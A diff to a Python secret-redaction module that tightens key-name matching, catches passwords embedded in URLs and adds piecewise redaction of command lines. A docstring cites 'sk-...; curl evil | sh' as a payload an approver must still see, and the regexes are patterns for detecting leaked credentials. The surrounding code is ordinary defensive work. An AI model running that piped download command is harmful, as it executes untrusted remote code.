@@ -11,11 +11,14 @@ MAX_STRING_CHARS = 200
 MAX_ITEMS = 50
 MAX_DEPTH = 6
 
+# Matched against the key with camelCase split into words (`accessToken` -> `access_token`), as a
+# whole word, so `author_note` or `tokenizer` are not taken for secrets.
 _SECRET_KEY = re.compile(
-    r"pass(word|wd|phrase)?|secret|token|api[-_]?key|apikey|auth(orization)?|credential|private[-_]?key|"
-    r"cookie|session[-_]?id|access[-_]?key|signature|bearer",
-    re.IGNORECASE,
+    r"(?:^|[^a-z0-9])(?:pass(?:word|wd|phrase)?|pwd|secret|token|api[-_]?key|apikey|auth|authorization|"
+    r"credentials?|private[-_]?key|cookie|session[-_]?id|access[-_]?key|signature|bearer|client[-_]?secret)"
+    r"(?:$|[^a-z0-9])"
 )
+_CAMEL = re.compile(r"([a-z0-9])([A-Z])")
 _SECRET_VALUE = re.compile(
     r"^(?:sk|pk|rk)[-_](?:live|test|proj)?[-_]?[A-Za-z0-9]{12,}"  # Stripe / OpenAI style keys
     r"|^gh[pousr]_[A-Za-z0-9]{20,}|^github_pat_[A-Za-z0-9_]{20,}"
@@ -36,11 +39,16 @@ _SECRET_IN_TEXT = re.compile(
     r"|(?i:\b(?:bearer|basic|token)\s+)[A-Za-z0-9._~+/=-]{8,}"
     r"|(?i:\b(?:password|passwd|pwd|secret|token|api[_-]?key|access[_-]?key)\b[\"']?\s*[=:]\s*)[^\s\"'&,;]{4,}"
     r"|-----BEGIN [A-Z ]*PRIVATE KEY-----[\s\S]*?(?:-----END [A-Z ]*PRIVATE KEY-----|$)"
+    r"|(?<=://)[^/\s:@]+:[^/\s@]+(?=@)"  # user:password in a URL
 )
 
 
 def _looks_secret(text: str) -> bool:
+    """The whole value is one secret-looking token (no spaces: text with spaces is redacted piecewise,
+    so an approver still sees a payload such as `sk-...; curl evil | sh`)."""
     stripped = text.strip()
+    if not stripped or any(c.isspace() for c in stripped):
+        return False
     if _SECRET_VALUE.search(stripped):
         return True
     # A long unbroken run mixing letters and digits reads like a key, not prose or a path.
@@ -49,6 +57,15 @@ def _looks_secret(text: str) -> bool:
         and any(c.isdigit() for c in stripped)
         and any(c.isalpha() for c in stripped)
     )
+
+
+def _secret_key(key: str) -> bool:
+    return bool(_SECRET_KEY.search(_CAMEL.sub(r"\1_\2", key).lower()))
+
+
+def redact_text(text: str) -> str:
+    """`text` with every secret-looking part replaced (for command lines and similar values)."""
+    return REDACTED if _looks_secret(text) else _SECRET_IN_TEXT.sub(REDACTED, text)
 
 
 def redact(value: Any, depth: int = 0) -> Any:
@@ -61,7 +78,7 @@ def redact(value: Any, depth: int = 0) -> Any:
             if i == MAX_ITEMS:
                 out["…"] = f"{len(value) - MAX_ITEMS} more keys"
                 break
-            out[str(key)] = REDACTED if _SECRET_KEY.search(str(key)) else redact(item, depth + 1)
+            out[str(key)] = REDACTED if _secret_key(str(key)) else redact(item, depth + 1)
         return out
     if isinstance(value, list):
         items = [redact(item, depth + 1) for item in value[:MAX_ITEMS]]
